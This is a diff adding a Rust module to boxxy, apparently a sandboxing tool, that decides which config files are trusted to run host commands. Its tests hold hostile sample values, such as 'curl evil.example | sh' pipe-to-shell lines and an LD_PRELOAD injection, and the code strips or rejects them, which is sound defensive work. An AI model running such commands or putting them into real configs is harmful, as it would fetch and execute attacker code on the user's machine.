@@ -0,0 +1,344 @@
+//! Which config files may run commands on the host. A config in boxxy's
+//! config directory is the user's own, but a `boxxy.yaml` in a project, or
+//! the community rules, could come from anyone, so keys that run commands
+//! outside the box are only used from them once they're trusted with
+//! `boxxy config trust`.
+
+use std::path::{Path, PathBuf};
+
+use color_eyre::eyre::eyre;
+use color_eyre::Result;
+use log::*;
+
+use super::remote::sha256;
+use super::BoxxyConfig;
+use crate::enclosure::fs::append_all;
+use crate::enclosure::rule::{BoxxyRules, Rule};
+
+/// How far boxxy trusts a config file.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Trust {
+    /// The user's own config, in boxxy's config directory. Everything in it
+    /// is used.
+    Own,
+    /// A config the user has trusted with `boxxy config trust`. Everything in
+    /// it is used but `containers_root` and `allow_secrets`, which only the
+    /// user's own config can set.
+    Trusted,
+    /// Anything else. Keys that run commands on the host are ignored.
+    Untrusted,
+    /// A file from an `include_url`, or one it includes. Whoever serves it
+    /// can change it at any time, so it may only have plain mount rules.
+    Remote,
+}
+
+/// The file that trusted configs are listed in, in `sha256sum` format, so
+/// that editing a config takes its trust away.
+pub fn trusted_list_path() -> Result<PathBuf> {
+    let config_dir = dirs::config_dir().ok_or_else(|| eyre!("could not find config directory"))?;
+    Ok(append_all(&config_dir, vec!["boxxy", "trusted"]))
+}
+
+/// How far the config file at `path`, with `contents`, is trusted.
+pub fn trust_of(path: &Path, contents: &str) -> Result<Trust> {
+    let canonical = path.canonicalize()?;
+    let own = BoxxyConfig::global_rule_paths()?
+        .iter()
+        .filter_map(|own| own.canonicalize().ok())
+        .any(|own| own == canonical);
+    if own {
+        Ok(Trust::Own)
+    } else if is_listed(&read_list()?, &canonical, contents) {
+        Ok(Trust::Trusted)
+    } else {
+        Ok(Trust::Untrusted)
+    }
+}
+
+/// Trust the config file at `path` as it is now.
+pub fn trust(path: &Path) -> Result<()> {
+    let canonical = path.canonicalize()?;
+    let contents = std::fs::read_to_string(&canonical)?;
+    let list = read_list()?;
+    let mut lines: Vec<&str> = list
+        .lines()
+        .filter(|line| listed_path(line) != Some(canonical.as_path()))
+        .collect();
+    let entry = format!("{}  {}", sha256(contents.as_bytes()), canonical.display());
+    lines.push(&entry);
+    let list_path = trusted_list_path()?;
+    if let Some(parent) = list_path.parent() {
+        std::fs::create_dir_all(parent)?;
+    }
+    std::fs::write(list_path, lines.join("\n") + "\n")?;
+    Ok(())
+}
+
+/// Drop the keys that run commands on the host from `rules`, loaded from
+/// `path`, unless it's trusted, and `containers_root` and `allow_secrets`
+/// unless it's the user's own. Remote files that set anything but plain mount
+/// rules are an error instead.
+pub fn restrict(rules: &mut BoxxyRules, trust: Trust, path: &Path) -> Result<()> {
+    match trust {
+        Trust::Own => Ok(()),
+        Trust::Trusted => {
+            ignore_own_keys(rules, path);
+            Ok(())
+        }
+        Trust::Untrusted => {
+            ignore_own_keys(rules, path);
+            ignore_host_commands(rules, path);
+            Ok(())
+        }
+        Trust::Remote => {
+            let keys = non_mount_keys(rules);
+            if keys.is_empty() {
+                Ok(())
+            } else {
+                Err(eyre!(
+                    "files from an include_url may only have plain mount rules, but it sets {}",
+                    keys.join(", ")
+                ))
+            }
+        }
+    }
+}
+
+/// Drop the keys that only the user's own config can set.
+fn ignore_own_keys(rules: &mut BoxxyRules, path: &Path) {
+    if rules.containers_root.take().is_some() {
+        warn!(
+            "{} isn't your own config, ignoring its `containers_root`; set it in boxxy's config directory instead",
+            path.display()
+        );
+    }
+    for rule in all_rules_mut(rules) {
+        if std::mem::take(&mut rule.allow_secrets) {
+            warn!(
+                "{} isn't your own config, ignoring `allow_secrets` of rule '{}'; set it in boxxy's config directory instead",
+                path.display(),
+                rule.name
+            );
+        }
+    }
+}
+
+/// Drop the keys that run commands, on the host or in the box before the
+/// program starts, where they can still see everything the rules expose.
+fn ignore_host_commands(rules: &mut BoxxyRules, path: &Path) {
+    for (key, commands) in [
+        ("container_init", &mut rules.container_init),
+        ("shell_init", &mut rules.shell_init),
+    ] {
+        if !std::mem::take(commands).is_empty() {
+            warn!(
+                "{} isn't trusted, ignoring its `{key}`; run `boxxy config trust` in its directory to use it",
+                path.display()
+            );
+        }
+    }
+    for rule in all_rules_mut(rules) {
+        let mut ignored = vec![];
+        if !rule.before.is_empty() || !rule.after.is_empty() {
+            rule.before.clear();
+            rule.after.clear();
+            ignored.push("`before` and `after`");
+        }
+        if !rule.env_cmd.is_empty() {
+            rule.env_cmd.clear();
+            ignored.push("`env_cmd`");
+        }
+        if !ignored.is_empty() {
+            warn!(
+                "{} isn't trusted, ignoring {} of rule '{}'; run `boxxy config trust` in its directory to use them",
+                path.display(),
+                ignored.join(", "),
+                rule.name
+            );
+        }
+    }
+}
+
+/// The keys in `rules` that do more than mount things: ones that run
+/// commands, set the environment, or change how every box is set up.
+fn non_mount_keys(rules: &mut BoxxyRules) -> Vec<String> {
+    let mut keys = vec![];
+    for (key, set) in [
+        ("container_init", !rules.container_init.is_empty()),
+        ("shell_init", !rules.shell_init.is_empty()),
+        ("rlimits", !rules.rlimits.is_empty()),
+        ("store_root", rules.store_root.is_some()),
+        ("containers_root", rules.containers_root.is_some()),
+        ("umask", rules.umask.is_some()),
+        ("tag_mounts", rules.tag_mounts),
+        ("strict_secrets", rules.strict_secrets),
+        ("ro_home", rules.ro_home),
+    ] {
+        if set {
+            keys.push(format!("`{key}`"));
+        }
+    }
+    for rule in all_rules_mut(rules) {
+        for (key, set) in [
+            ("env", !rule.env.is_empty()),
+            ("env_file", rule.env_file.is_some()),
+            ("env_cmd", !rule.env_cmd.is_empty()),
+            ("prepend_path", !rule.prepend_path.is_empty()),
+            ("append_path", !rule.append_path.is_empty()),
+            ("before", !rule.before.is_empty()),
+            ("after", !rule.after.is_empty()),
+            ("allow_secrets", rule.allow_secrets),
+        ] {
+            if set {
+                keys.push(format!("`{key}` in rule '{}'", rule.name));
+            }
+        }
+    }
+    keys
+}
+
+/// Every rule in `rules`, wherever it is.
+fn all_rules_mut(rules: &mut BoxxyRules) -> impl Iterator<Item = &mut Rule> {
+    rules
+        .rules
+        .iter_mut()
+        .chain(rules.profiles.values_mut().flatten())
+        .chain(
+            rules
+                .workspaces
+                .values_mut()
+                .flat_map(|workspace| workspace.rules.iter_mut()),
+        )
+}
+
+fn read_list() -> Result<String> {
+    match std::fs::read_to_string(trusted_list_path()?) {
+        Ok(list) => Ok(list),
+        Err(err) if err.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
+        Err(err) => Err(err.into()),
+    }
+}
+
+fn listed_path(line: &str) -> Option<&Path> {
+    let (_, path) = line.split_once("  ")?;
+    Some(Path::new(path))
+}
+
+/// Whether `list` trusts `path` with exactly `contents`.
+fn is_listed(list: &str, path: &Path, contents: &str) -> bool {
+    let digest = sha256(contents.as_bytes());
+    list.lines().any(|line| {
+        line.split_once("  ")
+            .is_some_and(|(listed, listed_path)| listed == digest && Path::new(listed_path) == path)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::{parse_rules, VersionCheck};
+
+    #[test]
+    fn test_is_listed() {
+        let path = Path::new("/home/me/project/boxxy.yaml");
+        let list = format!("{}  {}\n", sha256(b"rules: []\n"), path.display());
+        assert!(is_listed(&list, path, "rules: []\n"));
+        // Editing the file takes its trust away.
+        assert!(!is_listed(&list, path, "rules: [{name: x}]\n"));
+        assert!(!is_listed(
+            &list,
+            Path::new("/elsewhere/boxxy.yaml"),
+            "rules: []\n"
+        ));
+        assert_eq!(listed_path(list.trim_end()), Some(path));
+    }
+
+    #[test]
+    fn test_restrict() -> Result<()> {
+        let (rules, _) = parse_rules(
+            r#"
+rules:
+- name: "hooked"
+  target: "~/.a"
+  before: ["curl evil.example | sh"]
+  after: ["true"]
+  env_cmd:
+    TOKEN: "curl evil.example | sh"
+  allow_secrets: true
+containers_root: "/dev/shm/boxxy"
+container_init: ["curl evil.example | sh"]
+shell_init: ["curl evil.example | sh"]
+profiles:
+  work:
+  - name: "profiled"
+    target: "~/.b"
+    before: ["true"]
+"#,
+            VersionCheck::Error,
+        )?;
+        let mut untrusted = rules.clone();
+        restrict(&mut untrusted, Trust::Untrusted, Path::new("boxxy.yaml"))?;
+        assert!(untrusted.rules[0].before.is_empty());
+        assert!(untrusted.rules[0].after.is_empty());
+        assert!(untrusted.rules[0].env_cmd.is_empty());
+        assert!(untrusted.profiles["work"][0].before.is_empty());
+        assert!(untrusted.container_init.is_empty());
+        assert!(untrusted.shell_init.is_empty());
+        assert_eq!(untrusted.containers_root, None);
+        assert!(!untrusted.rules[0].allow_secrets);
+
+        let mut remote = rules.clone();
+        let err = restrict(&mut remote, Trust::Remote, Path::new("remote.yaml"))
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("`before` in rule 'hooked'"), "{err}");
+        assert!(err.contains("`env_cmd` in rule 'hooked'"), "{err}");
+        assert!(err.contains("`before` in rule 'profiled'"), "{err}");
+
+        let mut trusted = rules.clone();
+        restrict(&mut trusted, Trust::Trusted, Path::new("boxxy.yaml"))?;
+        assert_eq!(trusted.rules[0].before.len(), 1);
+        assert_eq!(trusted.rules[0].env_cmd.len(), 1);
+        assert_eq!(trusted.container_init.len(), 1);
+        assert_eq!(trusted.shell_init.len(), 1);
+        assert_eq!(trusted.containers_root, None);
+        assert!(!trusted.rules[0].allow_secrets);
+
+        let mut own = rules;
+        restrict(&mut own, Trust::Own, Path::new("boxxy.yaml"))?;
+        assert_eq!(own.containers_root.as_deref(), Some("/dev/shm/boxxy"));
+        assert!(own.rules[0].allow_secrets);
+        Ok(())
+    }
+
+    #[test]
+    fn test_remote_mount_rules() -> Result<()> {
+        let (mut rules, _) = parse_rules(
+            r#"
+rules:
+- name: "team cache"
+  target: "~/.cache/tool"
+  mode: "tmpfs"
+  only: ["tool"]
+  readonly: false
+"#,
+            VersionCheck::Error,
+        )?;
+        restrict(&mut rules, Trust::Remote, Path::new("remote.yaml"))?;
+
+        for config in [
+            "container_init: [\"curl evil.example | sh\"]",
+            "containers_root: /dev/shm",
+            "rules: [{name: x, target: ~/.x, env: {LD_PRELOAD: /tmp/x.so}}]",
+            "rules: [{name: x, target: ~/.x, prepend_path: [/tmp/shims]}]",
+            "rules: [{name: x, target: ~/.x, allow_secrets: true}]",
+        ] {
+            let (mut rules, _) = parse_rules(config, VersionCheck::Error)?;
+            assert!(
+                restrict(&mut rules, Trust::Remote, Path::new("remote.yaml")).is_err(),
+                "{config}"
+            );
+        }
+        Ok(())
+    }
+}